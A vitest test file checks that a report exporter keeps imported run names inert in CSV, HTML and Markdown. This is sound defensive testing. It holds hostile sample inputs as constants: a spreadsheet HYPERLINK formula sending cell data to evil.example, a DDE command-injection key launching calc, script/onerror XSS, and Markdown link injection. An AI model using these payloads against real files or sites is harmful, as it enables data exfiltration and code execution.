import { describe, expect, it } from 'vitest';
import { engineFactory } from './fixtures/engine.js';
import { runReport } from './fixtures/report-files.js';
import { tinyRunRecord } from './fixtures/run-record.js';

const engines = engineFactory();

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const SCRIPT = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const MARKDOWN = 'x\n\n# Injected heading\n- [link](http://evil.example) ![img](http://evil.example/p.png) ```';

/** Imports a run whose name, summary key and unit came from someone else, then exports it in a format. */
async function exportHostile(format: 'csv' | 'md' | 'html', name: string) {
  const engine = await engines.open(await engines.tempDir());
  const run = {
    ...tinyRunRecord('hostile'),
    name,
    summary: { [`+cmd|' /C calc'!A0`]: { value: -5, unit: 'ms' as const, better: 'higher' as const } },
  };
  await engine.call('runs.import', { fileName: 'shared.json', content: JSON.stringify(runReport(run)) });
  return (await engine.call('report.export', { target: { runId: run.id }, format })).content;
}

describe('names and labels from an imported file are inert in every export format', () => {
  it('CSV: text cells that a spreadsheet would run as formulas start with an apostrophe; numbers stay numbers', async () => {
    const csv = await exportHostile('csv', FORMULA);
    const rows = csv.split('\n').filter((line) => !line.startsWith('#'));
    for (const row of rows) {
      for (const cell of row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
        const text = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        if (/^-?\d/.test(text)) continue;
        expect(text, row).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(csv).toContain(',-5,');
    // Comment lines are JSON: no name can end one and start a row.
    for (const line of csv.split('\n').filter((l) => l.startsWith('#'))) expect(line).toMatch(/^# [^:]+: ["{[\d]/);
  });

  it('HTML: markup in a name is shown, never run', async () => {
    const html = await exportHostile('html', SCRIPT);
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
  });

  it('Markdown: a name cannot open a heading, a list, a link, an image or a code block', async () => {
    const md = await exportHostile('md', MARKDOWN);
    expect(md).not.toMatch(/^# Injected/m);
    expect(md).not.toMatch(/^- \[link\]/m);
    expect(md).not.toMatch(/(^|[^\\])!\[img\]/);
    expect(md).not.toMatch(/(^|[^\\])\[link\]\(/);
    // One line: the newlines are gone, so "#" and "-" are mid-line text.
    expect(md.split('\n')[0]).toBe('# x # Injected heading - \\[link\\](http://evil.example) \\!\\[img\\](http://evil.example/p.png) \\`\\`\\`');
  });
});
